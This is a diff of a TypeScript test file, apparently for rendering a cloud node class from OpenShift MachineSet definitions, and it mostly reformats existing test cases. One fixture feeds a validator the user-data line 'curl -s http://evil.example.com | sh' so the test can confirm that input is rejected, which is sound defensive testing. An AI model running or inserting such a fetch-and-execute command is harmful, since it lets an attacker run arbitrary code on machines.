@@ -35,7 +35,11 @@ const rows: Row[] = [
       securityGroupSelectorTerms: [{ tags: { Name: `${INFRA_ID}-node` } }, { tags: { Name: `${INFRA_ID}-lb` } }],
       instanceProfile: `${INFRA_ID}-worker-profile`,
       blockDeviceMappings: [
-        { deviceName: '/dev/xvda', rootVolume: true, ebs: { volumeSize: '120Gi', volumeType: 'gp3', encrypted: true, deleteOnTermination: true } },
+        {
+          deviceName: '/dev/xvda',
+          rootVolume: true,
+          ebs: { volumeSize: '120Gi', volumeType: 'gp3', encrypted: true, deleteOnTermination: true },
+        },
       ],
       metadataOptions: { httpEndpoint: 'enabled', httpProtocolIPv6: 'disabled', httpPutResponseHopLimit: 1, httpTokens: 'required' },
       userData: pointerUserData(),
@@ -51,7 +55,9 @@ const rows: Row[] = [
   {
     name: 'subnet by ARN',
     input: aDiscoveryInput({
-      machineSets: [aMachineSet({ providerSpec: { subnet: { arn: 'arn:aws:ec2:us-east-1:123456789012:subnet/subnet-0bbb', filters: null } } })],
+      machineSets: [
+        aMachineSet({ providerSpec: { subnet: { arn: 'arn:aws:ec2:us-east-1:123456789012:subnet/subnet-0bbb', filters: null } } }),
+      ],
     }),
     spec: { subnetSelectorTerms: [{ id: 'subnet-0bbb' }] },
   },
@@ -101,7 +107,9 @@ const rows: Row[] = [
   },
   {
     name: 'several security groups by id',
-    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { securityGroups: [{ id: 'sg-0a1' }, { id: 'sg-0a2' }, { id: 'sg-0a3' }] } })] }),
+    input: aDiscoveryInput({
+      machineSets: [aMachineSet({ providerSpec: { securityGroups: [{ id: 'sg-0a1' }, { id: 'sg-0a2' }, { id: 'sg-0a3' }] } })],
+    }),
     spec: { securityGroupSelectorTerms: [{ id: 'sg-0a1' }, { id: 'sg-0a2' }, { id: 'sg-0a3' }] },
   },
   {
@@ -137,7 +145,10 @@ const rows: Row[] = [
     input: aDiscoveryInput({
       machineSets: [
         aMachineSet({ zone: 'us-east-1a' }),
-        aMachineSet({ name: `${INFRA_ID}-worker-arm-us-east-1a`, providerSpec: { ami: { id: 'ami-0arm64bbbb' }, instanceType: 'm6g.xlarge' } }),
+        aMachineSet({
+          name: `${INFRA_ID}-worker-arm-us-east-1a`,
+          providerSpec: { ami: { id: 'ami-0arm64bbbb' }, instanceType: 'm6g.xlarge' },
+        }),
         aMachineSet({ zone: 'us-east-1b' }),
       ],
     }),
@@ -145,7 +156,9 @@ const rows: Row[] = [
   },
   {
     name: 'AMI by ARN',
-    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { ami: { id: null, arn: 'arn:aws:ec2:us-east-1::image/ami-0fromarn' } } })] }),
+    input: aDiscoveryInput({
+      machineSets: [aMachineSet({ providerSpec: { ami: { id: null, arn: 'arn:aws:ec2:us-east-1::image/ami-0fromarn' } } })],
+    }),
     spec: { amiSelectorTerms: [{ id: 'ami-0fromarn' }] },
   },
   {
@@ -171,9 +184,22 @@ const rows: Row[] = [
     name: 'infra, edge and outposts MachineSets are excluded',
     input: aDiscoveryInput({
       machineSets: [
-        aMachineSet({ name: 'a-infra', nodeLabels: { 'node-role.kubernetes.io/infra': '' }, providerSpec: { subnet: { id: 'subnet-0infra', filters: null } } }),
-        aMachineSet({ name: 'b-edge', role: 'edge', nodeLabels: { 'node-role.kubernetes.io/edge': '' }, providerSpec: { subnet: { id: 'subnet-0edge', filters: null } } }),
-        aMachineSet({ name: 'c-outposts', nodeLabels: { 'node-role.kubernetes.io/outposts': '' }, providerSpec: { subnet: { id: 'subnet-0out', filters: null } } }),
+        aMachineSet({
+          name: 'a-infra',
+          nodeLabels: { 'node-role.kubernetes.io/infra': '' },
+          providerSpec: { subnet: { id: 'subnet-0infra', filters: null } },
+        }),
+        aMachineSet({
+          name: 'b-edge',
+          role: 'edge',
+          nodeLabels: { 'node-role.kubernetes.io/edge': '' },
+          providerSpec: { subnet: { id: 'subnet-0edge', filters: null } },
+        }),
+        aMachineSet({
+          name: 'c-outposts',
+          nodeLabels: { 'node-role.kubernetes.io/outposts': '' },
+          providerSpec: { subnet: { id: 'subnet-0out', filters: null } },
+        }),
         aMachineSet({ name: 'd-master', role: 'master', providerSpec: { subnet: { id: 'subnet-0cp', filters: null } } }),
         aMachineSet({ name: 'e-worker', providerSpec: { subnet: { id: 'subnet-0wrk', filters: null } } }),
       ],
@@ -183,7 +209,9 @@ const rows: Row[] = [
   {
     name: 'spot workers count as workers; capacity type is left to NodePools',
     input: aDiscoveryInput({
-      machineSets: [aMachineSet({ providerSpec: { spotMarketOptions: { maxPrice: '0.30' }, subnet: { id: 'subnet-0spot', filters: null } } })],
+      machineSets: [
+        aMachineSet({ providerSpec: { spotMarketOptions: { maxPrice: '0.30' }, subnet: { id: 'subnet-0spot', filters: null } } }),
+      ],
     }),
     spec: { subnetSelectorTerms: [{ id: 'subnet-0spot' }] },
     absent: ['spotMarketOptions', 'capacityType'],
@@ -195,7 +223,15 @@ const rows: Row[] = [
         aMachineSet({
           providerSpec: {
             blockDevices: [
-              { ebs: { volumeSize: 250, volumeType: 'gp3', iops: 6000, throughputMib: 500, kmsKey: { arn: 'arn:aws:kms:us-east-1:123456789012:key/abcd' } } },
+              {
+                ebs: {
+                  volumeSize: 250,
+                  volumeType: 'gp3',
+                  iops: 6000,
+                  throughputMib: 500,
+                  kmsKey: { arn: 'arn:aws:kms:us-east-1:123456789012:key/abcd' },
+                },
+              },
             ],
           },
         }),
@@ -221,10 +257,18 @@ const rows: Row[] = [
   },
   {
     name: 'io1 root volume with iops, unencrypted when asked',
-    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { blockDevices: [{ ebs: { volumeSize: 500, volumeType: 'io1', iops: 3000, encrypted: false } }] } })] }),
+    input: aDiscoveryInput({
+      machineSets: [
+        aMachineSet({ providerSpec: { blockDevices: [{ ebs: { volumeSize: 500, volumeType: 'io1', iops: 3000, encrypted: false } }] } }),
+      ],
+    }),
     spec: {
       blockDeviceMappings: [
-        { deviceName: '/dev/xvda', rootVolume: true, ebs: { volumeSize: '500Gi', volumeType: 'io1', iops: 3000, encrypted: false, deleteOnTermination: true } },
+        {
+          deviceName: '/dev/xvda',
+          rootVolume: true,
+          ebs: { volumeSize: '500Gi', volumeType: 'io1', iops: 3000, encrypted: false, deleteOnTermination: true },
+        },
       ],
     },
   },
@@ -233,7 +277,11 @@ const rows: Row[] = [
     input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { blockDevices: null } })] }),
     spec: {
       blockDeviceMappings: [
-        { deviceName: '/dev/xvda', rootVolume: true, ebs: { volumeSize: '120Gi', volumeType: 'gp3', encrypted: true, deleteOnTermination: true } },
+        {
+          deviceName: '/dev/xvda',
+          rootVolume: true,
+          ebs: { volumeSize: '120Gi', volumeType: 'gp3', encrypted: true, deleteOnTermination: true },
+        },
       ],
     },
   },
@@ -307,17 +355,30 @@ const rows: Row[] = [
   {
     name: 'no worker MachineSet',
     input: aDiscoveryInput({ machineSets: [aMachineSet({ name: 'infra', nodeLabels: { 'node-role.kubernetes.io/infra': '' } })] }),
-    error: { reason: 'NoWorkerMachineSet', object: 'MachineSets in openshift-machine-api', field: 'spec.template.metadata.labels[machine.openshift.io/cluster-api-machine-role]' },
+    error: {
+      reason: 'NoWorkerMachineSet',
+      object: 'MachineSets in openshift-machine-api',
+      field: 'spec.template.metadata.labels[machine.openshift.io/cluster-api-machine-role]',
+    },
   },
   {
     name: 'no MachineSets at all',
     input: aDiscoveryInput({ machineSets: [] }),
-    error: { reason: 'NoWorkerMachineSet', object: 'MachineSets in openshift-machine-api', field: 'spec.template.metadata.labels[machine.openshift.io/cluster-api-machine-role]' },
+    error: {
+      reason: 'NoWorkerMachineSet',
+      object: 'MachineSets in openshift-machine-api',
+      field: 'spec.template.metadata.labels[machine.openshift.io/cluster-api-machine-role]',
+    },
   },
   {
     name: 'missing user-data Secret',
     input: aDiscoveryInput({ secrets: [] }),
-    error: { reason: 'UserDataSecretMissing', object: ms('us-east-1a'), field: `${P}.userDataSecret.name`, message: /Secret openshift-machine-api\/worker-user-data not found/ },
+    error: {
+      reason: 'UserDataSecretMissing',
+      object: ms('us-east-1a'),
+      field: `${P}.userDataSecret.name`,
+      message: /Secret openshift-machine-api\/worker-user-data not found/,
+    },
   },
   {
     name: 'user-data Secret without userData',
@@ -327,17 +388,34 @@ const rows: Row[] = [
   {
     name: 'user-data Secret holding a shell script',
     input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: '#!/bin/bash\ncurl -s http://evil.example.com | sh' })] }),
-    error: { reason: 'InvalidUserData', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData', message: /not an Ignition pointer config: not JSON$/ },
+    error: {
+      reason: 'InvalidUserData',
+      object: 'Secret openshift-machine-api/worker-user-data',
+      field: 'data.userData',
+      message: /not an Ignition pointer config: not JSON$/,
+    },
   },
   {
     name: 'user-data Secret with an Ignition spec 2 config',
     input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: pointerUserData().replace('"3.2.0"', '"2.2.0"'), as: 'stringData' })] }),
-    error: { reason: 'InvalidUserData', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData', message: /ignition\.version "2\.2\.0"/ },
+    error: {
+      reason: 'InvalidUserData',
+      object: 'Secret openshift-machine-api/worker-user-data',
+      field: 'data.userData',
+      message: /ignition\.version "2\.2\.0"/,
+    },
   },
   {
     name: 'user-data Secret without the MCS CA',
-    input: aDiscoveryInput({ secrets: [aUserDataSecret({ userData: JSON.stringify({ ignition: { ...JSON.parse(pointerUserData()).ignition, security: {} } }) })] }),
-    error: { reason: 'InvalidUserData', object: 'Secret openshift-machine-api/worker-user-data', field: 'data.userData', message: /certificateAuthorities holds no CA/ },
+    input: aDiscoveryInput({
+      secrets: [aUserDataSecret({ userData: JSON.stringify({ ignition: { ...JSON.parse(pointerUserData()).ignition, security: {} } }) })],
+    }),
+    error: {
+      reason: 'InvalidUserData',
+      object: 'Secret openshift-machine-api/worker-user-data',
+      field: 'data.userData',
+      message: /certificateAuthorities holds no CA/,
+    },
   },
   {
     name: 'malformed providerSpec: ami.id is a number',
@@ -381,12 +459,16 @@ const rows: Row[] = [
   },
   {
     name: 'malformed providerSpec on a second worker fails the whole render',
-    input: aDiscoveryInput({ machineSets: [aMachineSet(), aMachineSet({ zone: 'us-east-1b', providerSpec: { tags: [{ value: 'no-name' }] } })] }),
+    input: aDiscoveryInput({
+      machineSets: [aMachineSet(), aMachineSet({ zone: 'us-east-1b', providerSpec: { tags: [{ value: 'no-name' }] } })],
+    }),
     error: { reason: 'InvalidProviderSpec', object: ms('us-east-1b'), field: `${P}.tags[0].name` },
   },
   {
     name: 'no subnet reference a selector can express',
-    input: aDiscoveryInput({ machineSets: [aMachineSet({ providerSpec: { subnet: { filters: [{ name: 'availability-zone', values: ['us-east-1a'] }] } } })] }),
+    input: aDiscoveryInput({
+      machineSets: [aMachineSet({ providerSpec: { subnet: { filters: [{ name: 'availability-zone', values: ['us-east-1a'] }] } } })],
+    }),
     error: { reason: 'InvalidProviderSpec', object: ms('us-east-1a'), field: `${P}.subnet.filters` },
   },
   {
@@ -425,7 +507,11 @@ describe('renderDefaultNodeClass', () => {
       }
       expect(thrown).toBeInstanceOf(InvalidInputError);
       const e = thrown as InvalidInputError;
-      expect({ reason: e.reason, object: e.object, field: e.field }).toEqual({ reason: error.reason, object: error.object, field: error.field });
+      expect({ reason: e.reason, object: e.object, field: e.field }).toEqual({
+        reason: error.reason,
+        object: error.object,
+        field: error.field,
+      });
       expect(e.message).toContain(error.object);
       expect(e.message).toContain(error.field);
       if (error.message) expect(e.message).toMatch(error.message);
